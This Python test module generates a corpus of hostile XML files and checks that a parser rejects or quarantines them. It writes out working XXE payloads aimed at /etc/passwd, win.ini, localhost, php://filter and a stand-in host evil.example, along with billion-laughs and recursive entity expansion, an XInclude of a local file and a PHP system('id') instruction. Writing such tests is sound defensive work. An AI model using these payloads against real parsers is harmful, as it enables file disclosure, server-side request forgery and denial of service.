"""The XML file cases of the hostile-input corpus (see :mod:`tests.security.corpus_files`):
external entities in every form and encoding, entity expansion, nesting beyond the
parser's limit, oversize records, broken encodings, byte-order marks, control
characters and malformed documents. Generated; the module does no I/O."""

from __future__ import annotations

import codecs
import itertools
from collections.abc import Iterator

from tests.security.corpus import good_records, xml_text
from tests.security.corpus_files import FileCase

XXE_TARGETS = (
    "file:///etc/passwd",
    "file:///etc/hostname",
    "file:///c:/windows/win.ini",
    "http://127.0.0.1:1/x",
    "https://evil.example/x.dtd",
    "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    "jar:file:///tmp/x.jar!/x",
    "netdoc:///etc/passwd",
)


def xml_cases(canary: str) -> Iterator[FileCase]:
    recs = good_records("x", 3)
    seq = itertools.count()

    def fresh() -> list[dict[str, str]]:  # records of a file that is read: unique numbers
        return good_records(f"x{next(seq)}_", 3)

    def rej(name: str, cat: str, text: str | bytes, reason: str = "") -> FileCase:
        data = text.encode("utf-8") if isinstance(text, str) else text
        return FileCase(name, cat, "xml", f"m_{cat}.xml", data, "reject", reason=reason)

    targets = (*XXE_TARGETS, f"file://{canary}")
    for t in targets:
        yield rej(
            f"xxe general entity {t}",
            "xxe",
            xml_text(
                recs,
                prolog=f'<!DOCTYPE Root [<!ENTITY x SYSTEM "{t}">]>\n',
                inject="<ZS2>&x;</ZS2>",
            ),
            "DOCTYPE",
        )
        yield rej(
            f"xxe parameter entity {t}",
            "xxe",
            xml_text(recs, prolog=f'<!DOCTYPE Root [<!ENTITY % p SYSTEM "{t}"> %p;]>\n'),
            "DOCTYPE",
        )
        yield rej(
            f"xxe external subset {t}",
            "xxe",
            xml_text(recs, prolog=f'<!DOCTYPE Root SYSTEM "{t}">\n'),
            "DOCTYPE",
        )
    doctype = '<!DOCTYPE Root [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield rej("xxe after a comment", "xxe", xml_text(recs, prolog=f"<!-- c -->\n{doctype}\n"))
    yield rej("xxe after a PI", "xxe", xml_text(recs, prolog=f"<?pi x?>\n{doctype}\n"))
    yield rej(
        "xxe lower-case doctype",
        "xxe",
        xml_text(recs, prolog=doctype.replace("DOCTYPE", "doctype") + "\n"),
    )
    yield rej("xxe without declaration", "xxe", xml_text(recs, decl=None, prolog=doctype + "\n"))
    yield rej(
        "xxe in utf-16",
        "xxe",
        codecs.BOM_UTF16_LE
        + xml_text(recs, decl="UTF-16", prolog=doctype + "\n").encode("utf-16-le"),
    )
    yield rej("xxe in gbk", "xxe", xml_text(recs, decl="GBK", prolog=doctype + "\n").encode("gbk"))
    # entity expansion ("billion laughs") at growing depth, quadratic blow-up, recursion
    for depth in range(2, 11):
        ents = ['<!ENTITY l0 "lol">'] + [
            f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, depth + 1)
        ]
        yield rej(
            f"billion laughs depth {depth}",
            "expansion",
            xml_text(
                recs, prolog=f"<!DOCTYPE Root [{''.join(ents)}]>\n", inject=f"<ZS2>&l{depth};</ZS2>"
            ),
            "DOCTYPE",
        )
    big = "A" * 100_000
    yield rej(
        "quadratic blow-up",
        "expansion",
        xml_text(
            recs,
            prolog=f'<!DOCTYPE Root [<!ENTITY a "{big}">]>\n',
            inject="<ZS2>" + "&a;" * 1000 + "</ZS2>",
        ),
    )
    yield rej(
        "recursive entity",
        "expansion",
        xml_text(
            recs,
            prolog='<!DOCTYPE Root [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n',
            inject="<ZS2>&a;</ZS2>",
        ),
    )
    # deep nesting: beyond the parser's depth limit the file is refused
    for depth in (300, 1_000, 10_000, 100_000):
        yield rej(
            f"deep nesting {depth} in a record",
            "nesting",
            xml_text(recs, inject="<N>" * depth + "x" + "</N>" * depth),
        )
        yield rej(
            f"deep nesting {depth} around records",
            "nesting",
            xml_text(recs, wrap=("<W>" * depth, "</W>" * depth)),
        )
    # within the limit: the record is read, and its unknown nested field quarantines it
    for depth in (5, 50):
        yield FileCase(
            f"nesting {depth} in a record",
            "nesting",
            "xml",
            f"m_nest{depth}.xml",
            xml_text(fresh(), inject="<N>" * depth + "x" + "</N>" * depth).encode(),
            "read",
            quarantined=1,
            kept=2,
        )
    yield FileCase(
        "xinclude element",
        "xxe",
        "xml",
        "m_xinclude.xml",
        xml_text(
            fresh(),
            inject='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="file://{canary}" parse="text"/>',
        ).encode(),
        "read",
        quarantined=1,
        kept=2,
    )
    yield FileCase(
        "processing instruction in a record",
        "script",
        "xml",
        "m_pi.xml",
        xml_text(fresh(), inject="<?php system('id'); ?>").encode(),
        "read",
        kept=3,
    )
    # oversize: one record above max_record_bytes, a field the normalizer finds too long
    yield rej(
        "record above 1 MiB",
        "oversize",
        xml_text(recs, inject="<ZS2>" + "A" * (1024 * 1024 + 10) + "</ZS2>"),
        "max_record_bytes",
    )
    yield rej(
        "record of large attributes above 1 MiB",
        "oversize",
        xml_text(recs, inject="<E " + " ".join(f'a{i}="{"v" * 6000}"' for i in range(200)) + "/>"),
        "max_record_bytes",
    )
    long = fresh()
    long_field = [dict(long[0], ZS="长" * 300_000), *long[1:]]
    yield FileCase(
        "field of 300,000 characters",
        "oversize",
        "xml",
        "m_longfield.xml",
        xml_text(long_field).encode(),
        "read",
        quarantined=1,
        kept=2,
    )
    yield FileCase(
        "file above max_file_bytes",
        "oversize",
        "xml",
        "m_big.xml",
        xml_text(good_records("xb", 400)).encode(),
        "reject",
        max_file_bytes=64 * 1024,
        reason="max_file_bytes",
    )
    # encodings
    text = xml_text([dict(recs[0], QYMC="济南鑫源有限公司"), *recs[1:]])
    yield rej("declared UTF-8, bytes GBK", "encoding", text.encode("gbk"), "decode")
    gbk_decl = text.replace('encoding="UTF-8"', 'encoding="GBK"')
    yield rej(
        "declared GBK, 0xFF byte",
        "encoding",
        gbk_decl.encode("gbk").replace("鑫".encode("gbk"), b"\xff\xff"),
    )
    for label, raw in (
        ("overlong slash", b"\xc0\xaf"),
        ("encoded surrogate", b"\xed\xa0\x80"),
        ("truncated sequence", b"\xe4\xb8"),
        ("lone continuation", b"\x80"),
        ("five-byte form", b"\xf8\x88\x80\x80\x80"),
        ("above U+10FFFF", b"\xf5\x80\x80\x80"),
        ("0xFE", b"\xfe"),
        ("latin-1 e-acute", b"\xe9t\xe9"),
    ):
        yield rej(
            f"invalid UTF-8: {label}",
            "encoding",
            text.encode().replace("鑫".encode(), raw),
            "decode",
        )
    half = len(text) // 2
    yield rej(
        "UTF-8 then GBK halves",
        "encoding",
        text[:half].encode() + text[half:].encode("gbk"),
        "decode",
    )
    yield rej(
        "GB18030 four-byte characters declared GBK",
        "encoding",
        gbk_decl.replace("鑫源", "𠀀𠀁").encode("gb18030"),
    )
    # byte-order marks: a BOM that agrees with the text is fine; one that does not is refused
    yield FileCase(
        "UTF-8 BOM",
        "bom",
        "xml",
        "m_bom8.xml",
        codecs.BOM_UTF8 + xml_text(fresh()).encode(),
        "read",
        kept=3,
    )
    yield FileCase(
        "UTF-16LE BOM",
        "bom",
        "xml",
        "m_bom16le.xml",
        codecs.BOM_UTF16_LE + xml_text(fresh(), decl="UTF-16").encode("utf-16-le"),
        "read",
        kept=3,
    )
    yield FileCase(
        "UTF-16BE BOM",
        "bom",
        "xml",
        "m_bom16be.xml",
        codecs.BOM_UTF16_BE + xml_text(fresh(), decl="UTF-16").encode("utf-16-be"),
        "read",
        kept=3,
    )
    yield rej("two UTF-8 BOMs", "bom", codecs.BOM_UTF8 * 2 + text.encode())
    yield rej("UTF-16 BOM, UTF-8 bytes", "bom", codecs.BOM_UTF16_LE + text.encode())
    yield rej(
        "BOM inside the document", "bom", text.replace("<Root>", "<Root>\ufeff\ufeff<", 1).encode()
    )
    # control characters and malformed structure
    for c in ("\x00", "\x01", "\x1b", "\x0c", "\x7f\x00"):
        yield rej(f"control {c!r} in text", "control", text.replace("济南鑫源", f"济南{c}鑫源"))
    for ref in ("&#0;", "&#1;", "&#x1F;", "&#xFFFE;", "&#xD800;"):
        yield rej(f"character reference {ref}", "control", text.replace("济南鑫源", f"济南{ref}"))
    full = text
    for label, bad in (
        ("truncated", full[: len(full) // 2]),
        ("unclosed tag", full.replace("</Root>", "")),
        ("two roots", full + "<Root/>"),
        ("text before root", full.replace("<Root>", "junk<Root>")),
        ("bare ampersand", full.replace("济南鑫源", "A&B")),
        ("unquoted attribute", full.replace("<Record>", "<Record a=1>", 1)),
        ("double dash in comment", full.replace("<Root>", "<Root><!-- a -- b -->")),
        ("empty file", ""),
        ("declaration only", '<?xml version="1.0" encoding="UTF-8"?>\n'),
        ("CDATA end in CDATA", full.replace("济南鑫源", "<![CDATA[a]]>]]>")),
        ("mismatched tags", full.replace("</Record>", "</Recrod>", 1)),
    ):
        yield rej(f"malformed: {label}", "malformed", bad)
